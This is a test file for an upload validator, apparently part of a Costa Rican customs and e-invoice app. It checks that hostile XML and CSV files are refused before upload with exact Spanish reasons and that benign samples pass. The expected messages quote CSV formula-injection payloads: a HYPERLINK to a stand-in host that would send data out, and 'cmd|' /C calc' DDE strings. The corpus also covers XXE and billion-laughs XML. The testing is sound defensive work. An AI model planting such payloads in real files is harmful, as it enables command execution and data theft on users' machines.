import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { revisarComprobante } from '@/features/confirmacion/revisar-comprobante';
import { revisarCsv } from '@/features/tica/revisar-csv';
import { CUENTA, dirigidoALaCuenta } from '../comprobante-de-la-cuenta';

/*
 * The hostile corpus (tests/fixtures/hostile/, decision D30): every file, the check it goes
 * to by its screen, and the exact Spanish reason it is refused before upload. The files that are too
 * big to keep are made here. Real documents and TICA files pass the same checks (the controls below),
 * so a refusal is never the check refusing everything.
 */

const CORPUS = resolve(import.meta.dirname, '../fixtures/hostile');
const bytes = (archivo: string) => new Uint8Array(readFileSync(resolve(CORPUS, archivo)));
const xml = (archivo: string) => revisarComprobante(bytes(archivo), archivo, CUENTA);
const csv = (archivo: string) => revisarCsv(bytes(archivo), archivo);

const FORMATO_XML = 'se espera el XML del comprobante electrónico.';
const CABECERA = 'recibo,aduana,ano,dua,regimen,fecha,estado,responsable,estadoAforo';

/** Each stored file of the corpus: its screen and the reason it is refused. */
const TABLA: ReadonlyArray<[archivo: string, revisar: (archivo: string) => string | null, motivo: string]> = [
  // Received documents (Confirmación/Rechazo: one XML).
  ['vacio.xml', xml, 'El archivo está vacío.'],
  [
    'comprobante.pdf',
    xml,
    `El archivo comprobante.pdf no es un XML: se espera el archivo .xml del comprobante electrónico.`,
  ],
  ['pdf-renombrado.xml', xml, `El contenido del archivo no es XML (no empieza con '<'): ${FORMATO_XML}`],
  [
    'latin1.xml',
    xml,
    'El archivo no está en UTF-8 (línea 7): Hacienda exige UTF-8; pida al emisor el XML original.',
  ],
  [
    'utf16.xml',
    xml,
    'El archivo no está en UTF-8 (línea 1): Hacienda exige UTF-8; pida al emisor el XML original.',
  ],
  [
    'declara-latin1.xml',
    xml,
    'El archivo declara la codificación ISO-8859-1: Hacienda exige UTF-8; pida al emisor el XML original.',
  ],
  ['mal-formado.xml', xml, 'El archivo no es un XML bien formado (línea 11, columna 1).'],
  ['varias-raices.xml', xml, 'El archivo no es un XML bien formado: tiene más de un elemento raíz.'],
  ['raices-vacias.xml', xml, 'El archivo no es un XML bien formado: tiene más de un elemento raíz.'],
  [
    'xxe.xml',
    xml,
    'El archivo declara entidades (<!ENTITY>): se rechaza sin expandirlas, porque podrían leer archivos del ' +
      "servidor (XXE) o multiplicar su tamaño hasta bloquearlo ('billion laughs').",
  ],
  [
    'billion-laughs.xml',
    xml,
    'El archivo declara entidades (<!ENTITY>): se rechaza sin expandirlas, porque podrían leer archivos del ' +
      "servidor (XXE) o multiplicar su tamaño hasta bloquearlo ('billion laughs').",
  ],
  [
    'doctype-externo.xml',
    xml,
    'El archivo trae una declaración DOCTYPE: un comprobante de Hacienda no la lleva, y se rechaza sin ' +
      'procesarla porque podría pedir archivos externos.',
  ],
  [
    'mensaje-receptor.xml',
    xml,
    'El archivo es un Mensaje Receptor (la respuesta de un receptor a un comprobante), no un comprobante ' +
      'electrónico: no se puede confirmar ni rechazar.',
  ],
  [
    'mensaje-hacienda.xml',
    xml,
    'El archivo es un Mensaje de Hacienda (la respuesta de Hacienda a un comprobante), no un comprobante ' +
      'electrónico: no se puede confirmar ni rechazar.',
  ],
  [
    'otra-raiz.xml',
    xml,
    "El archivo XML (elemento raíz 'ListaPrecios') no es un comprobante electrónico de Hacienda: se " +
      'esperaba una Factura, un Tiquete o una Nota de Crédito o de Débito Electrónica.',
  ],
  ['sin-clave.xml', xml, 'El comprobante no trae su clave numérica (elemento Clave).'],
  [
    'clave-truncada.xml',
    xml,
    "La clave del comprobante no es válida: debe tener 50 dígitos y el archivo trae '506171' (6 caracteres).",
  ],
  [
    'otro-receptor.xml',
    xml,
    'El comprobante está dirigido a Importadora Sol S.A. (identificación 3101123456), no a su cuenta ' +
      'Aduanas y Logística del Pacífico S.A. (cédula 3101704425): solo se confirman o rechazan los ' +
      'comprobantes recibidos por su cuenta.',
  ],
  // TICA (one CSV).
  ['tica-vacio.csv', csv, 'El archivo está vacío.'],
  [
    'tica.xlsx',
    csv,
    "El archivo tica.xlsx no es un CSV: guárdelo desde la hoja de cálculo como 'CSV UTF-8 (delimitado por " +
      "comas)' (.csv).",
  ],
  [
    'tica-excel-renombrado.csv',
    csv,
    'El contenido del archivo no es texto CSV (trae bytes de control, como una hoja de Excel o un PDF): ' +
      "guárdelo como 'CSV UTF-8'.",
  ],
  [
    'tica-latin1.csv',
    csv,
    "Línea 2: el archivo no está en UTF-8; guárdelo como 'CSV UTF-8' e intente de nuevo",
  ],
  [
    'tica-unicode.csv',
    csv,
    "Línea 1: el archivo no está en UTF-8; guárdelo como 'CSV UTF-8' e intente de nuevo",
  ],
  ['tica-sin-encabezado.csv', csv, `Línea 1: el encabezado debe ser ${CABECERA}`],
  [
    'tica-formula-igual.csv',
    csv,
    "Línea 3, columna responsable: el valor '=HYPERLINK(\"http://example.invalid/?d=\"…' empieza con '=' " +
      'y una hoja de cálculo lo tomaría como fórmula; ningún dato de TICA empieza así. Corrija esa celda e ' +
      'intente de nuevo.',
  ],
  [
    'tica-formula-mas.csv',
    csv,
    "Línea 2, columna aduana: el valor '+cmd|' /C calc'!A0' empieza con '+' y una hoja de cálculo lo " +
      'tomaría como fórmula; ningún dato de TICA empieza así. Corrija esa celda e intente de nuevo.',
  ],
  [
    'tica-formula-menos.csv',
    csv,
    "Línea 2, columna recibo: el valor '-2+3' empieza con '-' y una hoja de cálculo lo tomaría como " +
      'fórmula; ningún dato de TICA empieza así. Corrija esa celda e intente de nuevo.',
  ],
  [
    'tica-formula-arroba.csv',
    csv,
    "Línea 3, columna responsable: el valor '@SUM(1+9)*cmd|' /C calc'!A0' empieza con '@' y una hoja de " +
      'cálculo lo tomaría como fórmula; ningún dato de TICA empieza así. Corrija esa celda e intente de nuevo.',
  ],
];

describe('the hostile corpus: each file refused before upload with its reason', () => {
  it.each(TABLA)('%s', (archivo, revisar, motivo) => {
    expect(revisar(archivo)).toBe(motivo);
  });

  it('the table covers every file of the corpus, once', () => {
    const enTabla = TABLA.map(([archivo]) => archivo);
    expect(new Set(enTabla).size).toBe(enTabla.length);
    expect(enTabla.toSorted()).toEqual(
      readdirSync(CORPUS)
        .filter((f) => f !== 'README.md')
        .toSorted(),
    );
  });
});

describe('files too big to keep in the corpus, made here', () => {
  const relleno = (n: number) => new Uint8Array(n).fill(0x20);

  it('an XML over 2 MB is refused by its size, whatever it holds', () => {
    expect(revisarComprobante(relleno(10 * 1024 * 1024), 'factura.xml', CUENTA)).toBe(
      'El archivo pesa 10 MB y el límite de un comprobante XML es 2 MB: un comprobante de Hacienda con el ' +
        'máximo de 1000 líneas de detalle pesa entre 1 y 1.5 MB.',
    );
    expect(revisarComprobante(relleno(2 * 1024 * 1024 + 1), 'factura.xml', CUENTA)).toMatch(
      /^El archivo pesa 2\.1 MB y el límite/,
    );
  });

  it('a TICA file over 3 MB is refused by its size; one over 10 000 lines by its lines', () => {
    expect(revisarCsv(relleno(10 * 1024 * 1024), 'tica.csv')).toBe(
      'El archivo pesa 10 MB y el límite de un archivo TICA es 3 MB: 10,000 líneas de datos de hasta 300 ' +
        'caracteres cada una.',
    );
    const linea = '24921,002,2026,880431,Entrega rápida,2026-03-02,ACEPTADO,Ana Mora,VERDE';
    const archivo = (lineas: number) =>
      new TextEncoder().encode([CABECERA, ...Array<string>(lineas).fill(linea)].join('\r\n'));
    expect(revisarCsv(archivo(10_001), 'tica.csv')).toBe(
      'El archivo tiene más de 10,000 líneas de datos, el límite de un archivo TICA: divídalo en varios archivos.',
    );
    // The limit itself is allowed.
    expect(revisarCsv(archivo(10_000), 'tica.csv')).toBeNull();
  });
});

describe('what is not hostile passes the same checks', () => {
  const muestras = readdirSync(resolve(import.meta.dirname, '../../mocks/data/xml'));
  const muestra = (archivo: string) =>
    readFileSync(resolve(import.meta.dirname, '../../mocks/data/xml', archivo), 'utf8');
  const DOCUMENTOS = muestras.filter(
    (f) =>
      f !== 'CRLibre__creaMAC.php.extracted.xml' && f !== 'CRLibre__69e9930b2621582a509f60291df625c3.xml',
  );

  it.each(DOCUMENTOS)('the sample %s, addressed to the account, may be sent', (archivo) => {
    const texto = dirigidoALaCuenta(muestra(archivo));
    expect(revisarComprobante(new TextEncoder().encode(texto), archivo, CUENTA)).toBeNull();
  });

  it('a sample addressed to somebody else is refused, naming its receiver; a ticket without one passes', () => {
    const factura = muestra('julatec__factura.xml');
    expect(revisarComprobante(new TextEncoder().encode(factura), 'f.xml', CUENTA)).toMatch(
      /^El comprobante está dirigido a Test Testing \(identificación 501230456\), no a su cuenta/,
    );
    const tiquete = muestra('julatec__tiquete_v44_sin_receptor.xml');
    expect(revisarComprobante(new TextEncoder().encode(tiquete), 'T.XML', CUENTA)).toBeNull();
  });

  it.each([
    ['tests/e2e/fixtures/tica-subida.csv'],
    ['tests/e2e/fixtures/tica-malformado.csv'],
    ['public/ejemplos/tica-ejemplo.csv'],
  ])('the TICA file %s may be sent (what its lines hold is the server’s to check)', (ruta) => {
    const archivo = new Uint8Array(readFileSync(resolve(import.meta.dirname, '../..', ruta)));
    expect(revisarCsv(archivo, ruta)).toBeNull();
  });

  it('a TICA file saved by a Spanish Excel (BOM, semicolons, CRLF, quotes, a hyphen inside a name) passes', () => {
    const texto =
      '\ufeffRecibo;Aduana;Año;DUA;Regimen;Fecha;Estado;Responsable;Estado Aforo\r\n' +
      '24921;002;2026;880432;Entrega rápida;02/03/2026;ASIGNADO;"Solís-Araya; María";DOCUMENTAL\r\n\r\n';
    expect(revisarCsv(new TextEncoder().encode(texto), 'TICA.CSV')).toBeNull();
  });
});
